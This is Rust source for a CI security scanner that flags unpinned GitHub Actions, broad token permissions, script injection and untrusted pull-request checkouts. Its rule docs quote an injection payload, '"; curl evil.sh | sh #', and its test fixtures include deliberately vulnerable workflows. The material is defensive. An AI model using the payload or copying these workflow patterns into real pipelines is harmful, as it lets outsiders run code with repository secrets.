//! CI configuration: GitHub Actions workflows, GitLab CI and the other YAML pipelines
//! (CircleCI, Azure Pipelines, Bitbucket, Travis, Cloud Build, Buildkite, Drone), plus
//! Jenkinsfiles. Each records a [`CiInfo`] (where CI is, which lines run tests); the
//! repository check (`repo.rs`) reports a repository without CI or whose CI runs no tests.
//! GitHub Actions is also checked here: third-party actions not pinned to a commit, and
//! workflows whose token is not scoped by a `permissions:` block.

use pagerproof_core::{Confidence, Severity};
use regex::Regex;
use std::sync::OnceLock;

use crate::case;
use crate::manifests::yaml::{V, Y};
use crate::manifests::{Artifact, ManifestOutput};
use crate::rule::{Case, Docs, Handling, Hit, RuleMeta};
// `Hit` builds the permission findings; pins are recorded as `ActionPin` artifacts.

/// A CI configuration file.
#[derive(Clone, Debug, PartialEq)]
pub struct CiInfo {
    /// `GitHub Actions`, `GitLab CI`, ...
    pub provider: &'static str,
    /// Lines that run tests, with the command.
    pub tests: Vec<(u32, String)>,
    /// The pipeline delegates to something pagerproof cannot read (GitLab `include:` of
    /// templates or other projects, reusable workflows in other repositories, triggered
    /// child pipelines): tests may run there.
    pub opaque: bool,
}

/// One `uses:` that is not pinned to a commit: reported by `cross.rs`, once per action
/// across the repository, with the other places it is used as related locations.
#[derive(Clone, Debug, PartialEq)]
pub struct ActionPin {
    pub action: String,
    pub line: u32,
    pub col: u32,
    pub message: String,
    pub site: String,
    pub severity: Option<Severity>,
}

/// Which CI system a file belongs to, from its path.
pub fn provider(path: &str, lower: &str) -> Option<&'static str> {
    if path.starts_with(".github/workflows/")
        && (lower.ends_with(".yml") || lower.ends_with(".yaml"))
    {
        return Some("GitHub Actions");
    }
    match lower {
        ".gitlab-ci.yml" | ".gitlab-ci.yaml" => Some("GitLab CI"),
        "azure-pipelines.yml" | "azure-pipelines.yaml" => Some("Azure Pipelines"),
        "bitbucket-pipelines.yml" => Some("Bitbucket Pipelines"),
        ".travis.yml" => Some("Travis CI"),
        "cloudbuild.yaml" | "cloudbuild.yml" => Some("Cloud Build"),
        ".drone.yml" => Some("Drone"),
        "jenkinsfile" => Some("Jenkins"),
        _ if path.starts_with(".circleci/") && lower.starts_with("config.") => Some("CircleCI"),
        _ if path.starts_with(".buildkite/") => Some("Buildkite"),
        _ if path.starts_with(".gitlab/ci/") => Some("GitLab CI"),
        _ => None,
    }
}

fn test_re() -> &'static Regex {
    static R: OnceLock<Regex> = OnceLock::new();
    R.get_or_init(|| {
        Regex::new(
            r"(?x)
            \bgo\s+test\b | \bpytest\b | -m\s+pytest\b | -m\s+unittest\b | \btox\b | \bnox\b
            | \b(npm|pnpm|yarn|bun)\s+(run\s+)?(test|coverage|ci:test)\b | \bnpx\s+(jest|vitest|mocha|playwright)\b
            | \b(jest|vitest|mocha|ava|karma)\b
            | \bmvnw?\s+.*\b(test|verify|install|package)\b | \bgradlew?\s+.*\b(test|check|build)\b
            | \bcargo\s+(test|nextest)\b | \bmake\s+(\S+\s+)*(test|tests|check|ci|verify)\b
            | \bdotnet\s+test\b | \b(rspec|phpunit|ctest|minitest)\b | \brake\s+(test|spec)\b
            | \bbazel\s+test\b | \bsbt\s+.*\btest\b | \bmix\s+test\b | \bswift\s+test\b | \bflutter\s+test\b
            | \bdeno\s+test\b | \btest\.sh\b | scripts?/test\b | \bunittest\b
            ",
        )
        .expect("static regex")
    })
}

/// Whether a command line runs tests.
pub fn runs_tests(cmd: &str) -> bool {
    test_re().is_match(cmd)
}

/// Every scalar of a YAML tree with its line (commands hide anywhere in pipelines).
fn scalars<'a>(y: &'a Y, out: &mut Vec<(u32, &'a str)>) {
    match &y.v {
        V::Scalar(s) => out.push((y.line, s)),
        V::Map(m) => {
            for e in m {
                scalars(&e.value, out);
            }
        }
        V::Seq(s) => {
            for i in s {
                scalars(i, out);
            }
        }
        V::Null => {}
    }
}

/// Records CI and checks GitHub workflows; `false` when the file is not CI.
pub fn analyze_yaml(path: &str, lower: &str, docs: &[Y], out: &mut ManifestOutput) -> bool {
    let Some(provider) = provider(path, lower) else {
        return false;
    };
    let mut tests = Vec::new();
    let mut opaque = false;
    for d in docs {
        opaque |= delegates(d);
        let mut all = Vec::new();
        scalars(d, &mut all);
        for (line, s) in all {
            for (i, l) in s.lines().enumerate() {
                if runs_tests(l) {
                    tests.push((line + i as u32, l.trim().chars().take(120).collect()));
                }
            }
        }
        if provider == "GitHub Actions" {
            github(d, out);
        }
    }
    tests.sort();
    tests.dedup_by(|a, b| a.0 == b.0);
    out.artifacts.push(Artifact::Ci(Box::new(CiInfo {
        provider,
        tests,
        opaque,
    })));
    true
}

/// Whether a pipeline runs steps defined elsewhere.
fn delegates(d: &Y) -> bool {
    // GitLab `include:` of templates, remote files or other projects (local files are
    // read too).
    let local_only = |y: &Y| {
        y.as_str()
            .is_some_and(|s| s.starts_with('/') || s.starts_with("./"))
            || y.get("local").is_some()
    };
    let gitlab_include = d.get("include").is_some_and(|i| match &i.v {
        V::Seq(items) => !items.iter().all(local_only),
        _ => !local_only(i),
    });
    // GitHub reusable workflows from other repositories.
    let remote_job = d
        .get("jobs")
        .map(Y::entries)
        .unwrap_or(&[])
        .iter()
        .any(|j| {
            j.value
                .get("uses")
                .is_some_and(|u| !u.text().starts_with("./"))
        });
    // GitLab child/multi-project pipelines.
    let child = d.entries().iter().any(|e| e.value.get("trigger").is_some());
    gitlab_include || remote_job || child
}

/// A Jenkinsfile (Groovy, read as text).
pub fn analyze_jenkinsfile(text: &str, out: &mut ManifestOutput) {
    let tests = text
        .lines()
        .enumerate()
        .filter(|(_, l)| runs_tests(l))
        .map(|(i, l)| (i as u32 + 1, l.trim().chars().take(120).collect()))
        .collect();
    // Shared libraries (`@Library`) hold steps pagerproof cannot read.
    let opaque = text.contains("@Library");
    out.artifacts.push(Artifact::Ci(Box::new(CiInfo {
        provider: "Jenkins",
        tests,
        opaque,
    })));
}

fn is_sha(r: &str) -> bool {
    r.len() == 40 && r.chars().all(|c| c.is_ascii_hexdigit())
}

fn github(d: &Y, out: &mut ManifestOutput) {
    let jobs = d.get("jobs").map(Y::entries).unwrap_or(&[]);
    // Token permissions.
    match d.entry("permissions") {
        Some(p) => {
            if let Some(what) = broad(&p.value) {
                out.hits.push(Hit::at(
                    &PERMISSIONS,
                    p.line,
                    p.col,
                    "permissions",
                    format!("workflow grants the token {what}"),
                ));
            }
        }
        None => {
            let unscoped: Vec<&str> = jobs
                .iter()
                .filter(|j| j.value.get("permissions").is_none())
                .map(|j| j.key.as_str())
                .collect();
            if !unscoped.is_empty() {
                let (line, col) = d
                    .entries()
                    .first()
                    .map(|e| (e.line, e.col))
                    .unwrap_or((1, 1));
                out.hits.push(Hit::at(
                    &PERMISSIONS,
                    line,
                    col,
                    "permissions",
                    format!(
                        "no top-level `permissions:` and job(s) {} set none: the token gets the repository default (read-write on older repositories)",
                        unscoped
                            .iter()
                            .take(4)
                            .map(|j| format!("`{j}`"))
                            .collect::<Vec<_>>()
                            .join(", ")
                    ),
                ));
            }
        }
    }
    let prt = triggers(d)
        .iter()
        .any(|t| t == "pull_request_target" || t == "workflow_run");
    for j in jobs {
        for step in j.value.get("steps").map(Y::items).unwrap_or(&[]) {
            injection(step, out);
            if prt {
                untrusted_checkout(step, out);
            }
        }
        if let Some(p) = j.value.entry("permissions")
            && let Some(what) = broad(&p.value)
        {
            out.hits.push(Hit::at(
                &PERMISSIONS,
                p.line,
                p.col,
                "permissions",
                format!("job `{}` grants the token {what}", j.key),
            ));
        }
        // Reusable workflow at job level.
        if let Some(u) = j.value.entry("uses") {
            pin(u.value.text(), u.value.line, u.value.col, out);
        }
        for step in j.value.get("steps").map(Y::items).unwrap_or(&[]) {
            if let Some(u) = step.get("uses") {
                pin(u.text(), u.line, u.col, out);
            }
        }
    }
}

/// The events that trigger a workflow (`on:` as a string, list or map).
fn triggers(d: &Y) -> Vec<String> {
    // YAML 1.1 readers turn a bare `on` key into `true`.
    let on = d.get("on").or_else(|| d.get("true"));
    match on {
        Some(o) if o.is_map() => o.entries().iter().map(|e| e.key.clone()).collect(),
        Some(o) => o.strings().iter().map(|s| s.to_string()).collect(),
        None => Vec::new(),
    }
}

/// Expressions an outsider controls (issue titles, PR bodies, branch names, commit
/// messages): interpolated into a `run:` script they execute as shell.
const UNTRUSTED: &[&str] = &[
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.message",
    "github.head_ref",
];

fn injection(step: &Y, out: &mut ManifestOutput) {
    let Some(run) = step.entry("run") else {
        return;
    };
    let script = run.value.text();
    for (i, l) in script.lines().enumerate() {
        let Some(start) = l.find("${{") else {
            continue;
        };
        let expr = &l[start..];
        if let Some(u) = UNTRUSTED.iter().find(|u| expr.contains(*u)).or_else(|| {
            // `github.event.commits.*.message`, `github.event.pages.*.page_name`
            (expr.contains("github.event.commits") && expr.contains(".message")
                || expr.contains("github.event.pages") && expr.contains("page_name"))
            .then_some(&"github.event.commits/pages")
        }) {
            // A block scalar starts on the line after `run: |`.
            // A block scalar (`run: |`) starts on the line after the key and is indented
            // (usually) two columns past it; a plain scalar starts at its value.
            let block = script.contains('\n');
            let (line, col) = if block {
                (
                    run.line + 1 + i as u32,
                    run.col + 2 + (l.len() - l.trim_start().len()) as u32,
                )
            } else {
                (run.value.line, run.value.col)
            };
            let mut h = Hit::at(
                &INJECTION,
                line,
                col,
                u.to_string(),
                format!(
                    "`run:` interpolates `{u}`, which anyone opening an issue or pull request controls: it runs as shell (pass it through `env:` instead)"
                ),
            );
            h.site(format!("run {u}"));
            out.hits.push(h);
            break;
        }
    }
}

fn untrusted_checkout(step: &Y, out: &mut ManifestOutput) {
    let uses = step.get("uses").map(Y::text).unwrap_or("");
    if !uses.starts_with("actions/checkout") {
        return;
    }
    let Some(r) = step.get("with").and_then(|w| w.entry("ref")) else {
        return;
    };
    let v = r.value.text();
    if v.contains("github.event.pull_request.head")
        || v.contains("github.head_ref")
        || v.contains("github.event.workflow_run.head")
        || v.contains("refs/pull/")
    {
        let mut h = Hit::at(
            &INJECTION,
            r.value.line,
            r.value.col,
            "pull_request_target checkout",
            "a `pull_request_target`/`workflow_run` workflow checks out the pull request's code: untrusted code then runs with the repository's secrets and a write token",
        );
        h.severity(Severity::P0);
        h.site("checkout head".to_string());
        out.hits.push(h);
    }
}

/// `write-all`, or write access to many scopes at once.
fn broad(p: &Y) -> Option<String> {
    if let Some(s) = p.as_str() {
        return (s.trim() == "write-all").then(|| "`write-all`".to_string());
    }
    let writes: Vec<&str> = p
        .entries()
        .iter()
        .filter(|e| e.value.text() == "write")
        .map(|e| e.key.as_str())
        .collect();
    (writes.len() >= 4).then(|| {
        format!(
            "write access to {} scopes ({})",
            writes.len(),
            writes.join(", ")
        )
    })
}

fn pin(uses: &str, line: u32, col: u32, out: &mut ManifestOutput) {
    let uses = uses.trim();
    if uses.starts_with("./") || uses.is_empty() || uses.contains("${{") {
        return;
    }
    let mut record = |action: &str, message: String, severity: Option<Severity>| {
        out.artifacts.push(Artifact::ActionPin(Box::new(ActionPin {
            action: action.to_string(),
            line,
            col,
            message,
            site: uses.to_string(),
            severity,
        })));
    };
    if let Some(image) = uses.strip_prefix("docker://") {
        if !image.contains("@sha256:") {
            record(
                uses,
                format!("`{uses}` runs a container image not pinned to a digest"),
                None,
            );
        }
        return;
    }
    let Some((action, r)) = uses.split_once('@') else {
        record(
            uses,
            format!("`{uses}` has no ref: it runs whatever the default branch holds"),
            Some(Severity::P1),
        );
        return;
    };
    if is_sha(r) {
        return;
    }
    let owner = action.split('/').next().unwrap_or("").to_ascii_lowercase();
    let first_party = owner == "actions" || owner == "github";
    let branch = matches!(
        r,
        "main" | "master" | "develop" | "dev" | "trunk" | "latest"
    ) || !r.chars().any(|c| c.is_ascii_digit());
    if first_party && !branch {
        return; // GitHub-owned action on a release tag: documented as accepted.
    }
    let (message, severity) = if first_party {
        (
            format!("first-party `{action}` follows the branch `{r}`: pin a release tag or commit"),
            Some(Severity::P3),
        )
    } else if branch {
        (
            format!("third-party action `{action}` follows the branch `{r}`, not a commit SHA"),
            Some(Severity::P1),
        )
    } else {
        (
            format!(
                "third-party action `{action}@{r}` is pinned to a tag, not a commit SHA: the tag can be moved"
            ),
            None,
        )
    };
    record(action, message, severity);
}

pub static PINNING: RuleMeta = RuleMeta {
    id: "gha-action-not-pinned",
    category: "GHA",
    severity: Severity::P2,
    confidence: Confidence::High,
    preview: false,
    languages: &["yaml"],
    summary: "GitHub Action not pinned to a commit SHA",
    docs: Docs {
        what: "A `uses:` step or reusable workflow that is not pinned to a full 40-character commit SHA. \
Third-party actions on a tag are P2 (tags can be moved), on a branch P1. GitHub's own actions (`actions/*`, \
`github/*`) on a release tag are accepted and not reported (same publisher as the runner itself); on a branch they \
are P3. `docker://` images without a digest are reported; local actions (`./`) are not. One finding per action \
across the repository, at its first use, with every other use as a related location.",
        scenario: "The action's repository is compromised or its maintainer retags a release (as happened to \
`tj-actions/changed-files` in 2025).",
        impact: "Attacker-controlled code runs in your CI with your repository token and secrets: it can push code, \
publish releases or exfiltrate credentials.",
        detection: "Unexpected workflow behaviour, secret exfiltration noticed after the fact; OpenSSF Scorecard \
Pinned-Dependencies check.",
        mitigation: "Pin every third-party action to a commit SHA (keep the tag in a comment) and let Dependabot or \
Renovate update the pins.",
        fixes: &[(
            "yaml",
            "- uses: docker/build-push-action@4f58ea79222b3b9dc2c8bbdd6debcef730109a75 # v6.9.0",
        )],
        monitoring: "Review Dependabot pin updates like code; alert on workflow runs that use unpinned actions \
(org policy `Require actions to be pinned to a full-length commit SHA`).",
    },
    outside_production: Handling::Keep,
    cases: &[
        case!(
            ".github/workflows/ci.yml",
            r#"name: ci
on: [push]
permissions:
  contents: read
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: docker/setup-buildx-action@v3
              ^ pinned to a tag
      - uses: some-org/deploy-action@main
              ^ follows the branch `main`
      - uses: actions/cache@main
              ^ first-party
      - uses: docker://alpine:3.20
              ^ not pinned to a digest
      - uses: aquasecurity/trivy-action@18f2510ee396bbf400402947b394f2dd8c87dbb0 # 0.29.0
      - uses: ./.github/actions/local
      - run: go test ./...
"#
        ),
        Case {
            files: &[
                (
                    ".github/workflows/a.yml",
                    "on: [push]\npermissions: {}\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: docker/login-action@v3\n              ^ used 2 times in 2 workflow file(s)\n",
                ),
                (
                    ".github/workflows/b.yml",
                    "on: [push]\npermissions: {}\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: docker/login-action@v3\n",
                ),
            ],
        },
        case!(
            ".github/workflows/ok.yml",
            "on: [push]\npermissions: {}\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: golangci/golangci-lint-action@4afd733a84b1f43292c63897423277bb7f4313a9\n"
        ),
    ],
};

pub static PERMISSIONS: RuleMeta = RuleMeta {
    id: "gha-token-permissions-broad",
    category: "GHA",
    severity: Severity::P2,
    confidence: Confidence::Medium,
    preview: false,
    languages: &["yaml"],
    summary: "Workflow token not scoped by a permissions block, or granted broad write access",
    docs: Docs {
        what: "A GitHub Actions workflow with no top-level `permissions:` while some job sets none either (the \
`GITHUB_TOKEN` then gets the repository or organisation default, read-write on repositories created before 2023), \
or a `permissions:` block granting `write-all` or write access to four or more scopes. Pointed at the first line of \
the workflow, or at the broad `permissions:` line.",
        scenario: "A step (a compromised action, a script injection through an issue title or branch name) runs \
attacker-controlled code.",
        impact: "With a write token the attacker can push to branches, alter releases and packages, or approve \
pull requests; with a read-only token the damage is contained.",
        detection: "Audit log entries for pushes or releases made by `github-actions[bot]` that no workflow should \
make.",
        mitigation: "Set `permissions: contents: read` at the top of every workflow and grant extra scopes only to \
the jobs that need them; set the organisation default to read-only.",
        fixes: &[(
            "yaml",
            "permissions:\n  contents: read\njobs:\n  release:\n    permissions:\n      contents: write   # only this job publishes",
        )],
        monitoring: "OpenSSF Scorecard Token-Permissions check in CI; review the audit log for token writes.",
    },
    outside_production: Handling::Keep,
    cases: &[
        case!(
            ".github/workflows/release.yml",
            "name: release\n^ no top-level `permissions:`\non:\n  push:\n    tags: ['v*']\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make release\n  all:\n    permissions: write-all\n    ^ `write-all`\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n"
        ),
        case!(
            ".github/workflows/ok.yml",
            "on: [pull_request]\njobs:\n  test:\n    permissions:\n      contents: read\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n"
        ),
    ],
};

pub static INJECTION: RuleMeta = RuleMeta {
    id: "gha-untrusted-input",
    category: "GHA",
    severity: Severity::P1,
    confidence: Confidence::High,
    preview: false,
    languages: &["yaml"],
    summary: "Workflow runs attacker-controlled input (script injection, untrusted checkout)",
    docs: Docs {
        what: "GitHub Actions patterns that run what outsiders control: a `run:` script interpolating `${{ }}` expressions from issue/PR titles and bodies, comments, branch names or commit messages (script injection), and a `pull_request_target` or `workflow_run` workflow that checks out the pull request's head (`ref: ${{ github.event.pull_request.head.sha }}`), which runs untrusted code with secrets and a write token (P0).",
        scenario: "Someone opens an issue titled `\"; curl evil.sh | sh #`, or a pull request from a fork whose build script exfiltrates secrets.",
        impact: "Arbitrary code runs in CI with the repository's token and secrets: releases, packages and the default branch can be tampered with.",
        detection: "Unexpected workflow runs or outbound traffic from runners; GitHub's CodeQL `actions` queries.",
        mitigation: "Pass untrusted values through `env:` and quote them in the script; never build or run pull request code in `pull_request_target`; use `pull_request` (no secrets) and a separate trusted workflow.",
        fixes: &[(
            "yaml",
            "- env:\n    TITLE: ${{ github.event.issue.title }}\n  run: echo \"$TITLE\"",
        )],
        monitoring: "Alert on workflow runs triggered by first-time contributors that touch secrets.",
    },
    outside_production: Handling::Keep,
    cases: &[
        case!(
            ".github/workflows/triage.yml",
            "on:\n  issues:\n    types: [opened]\npermissions: { issues: write }\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo \"new issue\"\n          echo \"${{ github.event.issue.title }}\" | ./label.sh\n          ^ github.event.issue.title\n"
        ),
        case!(
            ".github/workflows/pr.yml",
            "on: pull_request_target\npermissions: { contents: read }\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n               ^ checks out the pull request's code\n      - run: make test\n"
        ),
        case!(
            ".github/workflows/ok.yml",
            "on: [pull_request]\npermissions: { contents: read }\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - env:\n          TITLE: ${{ github.event.pull_request.title }}\n        run: echo \"$TITLE\" && echo ${{ github.sha }}\n"
        ),
    ],
};

pub static NO_CI: RuleMeta = RuleMeta {
    id: "repository-without-ci",
    category: "CI",
    severity: Severity::P2,
    confidence: Confidence::High,
    preview: false,
    languages: &["yaml"],
    summary: "No CI configuration in the repository",
    docs: Docs {
        what: "No continuous integration configuration anywhere in the repository: no GitHub Actions workflow, \
`.gitlab-ci.yml`, CircleCI, Azure Pipelines, Bitbucket, Travis, Cloud Build, Buildkite, Drone or Jenkinsfile. \
Repository-level finding (no line). Only reported when the repository has something to build (a component).",
        scenario: "A change is merged and deployed.",
        impact: "Nothing builds or tests it before it reaches users: broken builds, failing tests and regressions \
are found in production.",
        detection: "Breakages show up after deploys; `main` is often red locally.",
        mitigation: "Add a pipeline that builds and runs the tests on every pull request, and require it to pass \
before merging.",
        fixes: &[(
            "yaml",
            "# .github/workflows/ci.yml\non: [pull_request, push]\npermissions: { contents: read }\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test",
        )],
        monitoring: "Branch protection requiring the CI check; alert on merges that bypass it.",
    },
    outside_production: Handling::Keep,
    cases: &[
        Case {
            files: &[
                (
                    "deploy/app.yaml",
                    "apiVersion: v1\nkind: Service\nmetadata:\n  name: app\nspec:\n  selector: { app: app }\n",
                ),
                (
                    "app/Dockerfile",
                    "FROM python:3.12.4-slim\nUSER 1000\nCMD [\"python\", \"app.py\"]\n",
                ),
                ("EXPECT", ". | no CI configuration"),
            ],
        },
        Case {
            files: &[
                (
                    ".gitlab-ci.yml",
                    "test:\n  image: python:3.12\n  script:\n    - pytest -q\n",
                ),
                (
                    "app/Dockerfile",
                    "FROM python:3.12.4-slim\nUSER 1000\nCMD [\"python\", \"app.py\"]\n",
                ),
            ],
        },
    ],
};

pub static NO_TESTS: RuleMeta = RuleMeta {
    id: "ci-runs-no-tests",
    category: "CI",
    severity: Severity::P2,
    confidence: Confidence::Medium,
    preview: false,
    languages: &["yaml"],
    summary: "CI exists but runs no tests",
    docs: Docs {
        what: "The repository has CI configuration, but no step anywhere runs a test command (`go test`, `pytest`, \
`tox`, `npm test`, `jest`, `mvn test/verify/package`, `gradle test/check/build`, `cargo test`, `make test/check`, \
`dotnet test`, `rspec`, `bazel test`, a `test.sh` script, ...), and no Dockerfile `RUN` runs tests during the image \
build. When the pipeline delegates to what pagerproof cannot read (GitLab `include:` of templates or other projects, \
reusable workflows from other repositories, child pipelines, Jenkins shared libraries) nothing is reported. \
Repository-level finding (no line).",
        scenario: "A pull request breaks behaviour but still compiles.",
        impact: "CI reports green, reviewers trust it, and the regression is discovered by users.",
        detection: "Bugs that a unit test would catch reach production; CI duration is suspiciously short.",
        mitigation: "Run the test suite in CI on every pull request and make it a required check.",
        fixes: &[("yaml", "      - run: go test ./...\n      - run: pytest -q")],
        monitoring: "Track test count and coverage per CI run; alert when it drops to zero.",
    },
    outside_production: Handling::Keep,
    cases: &[
        Case {
            files: &[
                (
                    ".github/workflows/build.yml",
                    "on: [push]\npermissions: { contents: read }\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: docker build -t app .\n",
                ),
                ("EXPECT", ". | runs no tests"),
            ],
        },
        case!(
            ".github/workflows/ci.yaml",
            "on: [push]\npermissions: { contents: read }\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          cd src/api\n          go test ./...\n"
        ),
        case!(
            ".gitlab-ci.yml",
            "include:\n  - template: Auto-DevOps.gitlab-ci.yml\nvariables:\n  POSTGRES_ENABLED: \"false\"\n"
        ),
        Case {
            files: &[
                (
                    ".github/workflows/image.yml",
                    "on: [push]\npermissions: { contents: read }\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: docker build -t app .\n",
                ),
                (
                    "Dockerfile",
                    "FROM golang:1.22.5 AS build\nCOPY . .\nRUN go test ./... && go build -o /app .\nFROM gcr.io/distroless/static:nonroot\nCOPY --from=build /app /app\n",
                ),
            ],
        },
    ],
};

pub fn rules() -> Vec<&'static RuleMeta> {
    vec![&PINNING, &PERMISSIONS, &INJECTION, &NO_CI, &NO_TESTS]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_commands() {
        for c in [
            "go test -v ./...",
            "python -m pytest",
            "npm run test",
            "./gradlew build",
            "mvn -B verify",
            "make test",
            "dotnet test src/cartservice/",
            "cargo test --workspace",
        ] {
            assert!(runs_tests(c), "{c}");
        }
        for c in ["docker build .", "npm ci", "go build ./...", "echo testing"] {
            assert!(!runs_tests(c), "{c}");
        }
    }
}
